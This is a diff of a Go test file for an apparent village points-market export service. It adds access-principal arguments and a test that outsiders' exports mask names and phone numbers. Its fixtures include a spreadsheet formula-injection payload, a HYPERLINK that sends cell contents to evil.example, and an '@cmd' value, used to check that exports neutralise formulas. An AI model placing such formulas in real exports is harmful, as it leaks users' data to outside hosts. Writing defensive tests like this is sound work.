@@ -8,6 +8,8 @@ import (
 	"testing"
 
 	"github.com/xuri/excelize/v2"
+
+	"pointsmarket/internal/auth"
 )
 
 func TestNeutralise(t *testing.T) {
@@ -47,7 +49,7 @@ func TestExportsDoNotCarryFormulas(t *testing.T) {
 	evil := `=HYPERLINK("http://evil.example/?"&A1,"查看详情")`
 	s := &Service{store: rows{{evil, int64(-20)}, {"@cmd", int64(5)}}}
 	var out bytes.Buffer
-	if err := s.Write(t.Context(), "entries", "csv", Filter{}, &out); err != nil {
+	if err := s.Write(t.Context(), auth.Principal{}, "entries", "csv", Filter{}, &out); err != nil {
 		t.Fatal(err)
 	}
 	records, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(out.String(), "\ufeff"))).ReadAll()
@@ -58,7 +60,7 @@ func TestExportsDoNotCarryFormulas(t *testing.T) {
 		t.Errorf("csv rows = %q", records)
 	}
 	out.Reset()
-	if err := s.Write(t.Context(), "entries", "xlsx", Filter{}, &out); err != nil {
+	if err := s.Write(t.Context(), auth.Principal{}, "entries", "xlsx", Filter{}, &out); err != nil {
 		t.Fatal(err)
 	}
 	book, err := excelize.OpenReader(&out)
@@ -75,5 +77,34 @@ func TestExportsDoNotCarryFormulas(t *testing.T) {
 	}
 	if typ, _ := book.GetCellType(sheet, "B2"); typ == excelize.CellTypeSharedString || typ == excelize.CellTypeInlineString {
 		t.Errorf("a number became text: %v", typ)
+	}
+}
+
+type names []string
+
+func (n names) Names(context.Context, int64) ([]string, error) { return n, nil }
+
+// Township staff export a village as outsiders: names, phones and ID numbers are masked; the
+// village's own officials see them.
+func TestExportsForOutsidersAreMasked(t *testing.T) {
+	s := &Service{store: rows{{"帮助五保户杨秀兰（电话13800000299）修缮房屋", int64(30)}, {"张建国", int64(5)}}, names: names{"杨秀兰", "张建国"}}
+	read := func(p auth.Principal) [][]string {
+		var out bytes.Buffer
+		if err := s.Write(t.Context(), p, "entries", "csv", Filter{VillageID: 7}, &out); err != nil {
+			t.Fatal(err)
+		}
+		records, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(out.String(), "\ufeff"))).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		return records
+	}
+	township := auth.Principal{Home: auth.Place{TownshipID: 1, VillageID: 9}, Grants: []auth.Grant{{Role: auth.RoleSupervisor, TownshipID: 1}}}
+	if got := read(township); got[1][0] != "帮助五保户杨*兰（电话138****0299）修缮房屋" || got[2][0] != "张*国" {
+		t.Errorf("township supervisor's export: %q", got)
+	}
+	clerk := auth.Principal{Home: auth.Place{TownshipID: 1, VillageID: 9}, Grants: []auth.Grant{{Role: auth.RoleClerk, TownshipID: 1, VillageID: 7}}}
+	if got := read(clerk); got[1][0] != "帮助五保户杨秀兰（电话13800000299）修缮房屋" {
+		t.Errorf("the village's own clerk's export: %q", got)
 	}
 }
